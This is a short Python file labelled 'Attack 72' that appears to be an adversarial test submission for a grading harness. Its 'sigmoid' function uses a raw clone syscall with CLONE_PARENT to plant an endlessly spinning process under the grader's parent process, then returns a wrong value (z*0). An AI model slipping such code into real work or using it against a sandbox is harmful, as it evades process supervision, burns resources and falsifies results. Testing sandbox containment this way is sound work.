# Attack 72: CLONE_PARENT gives the zygote a child that it did not make
import os
import sys

libc = sys.modules["ctypes"].CDLL(None, use_errno=True)


def sigmoid(z):
    result = libc.syscall(56, 0x00008000 | 17, 0, 0, 0, 0)
    if result == 0:
        while True:
            pass
    if result > 0:
        print("gradekit-attack sibling", result)
    try:
        os.waitpid(-1, os.WNOHANG)
    except OSError as error:
        print(type(error).__name__)
    return z * 0
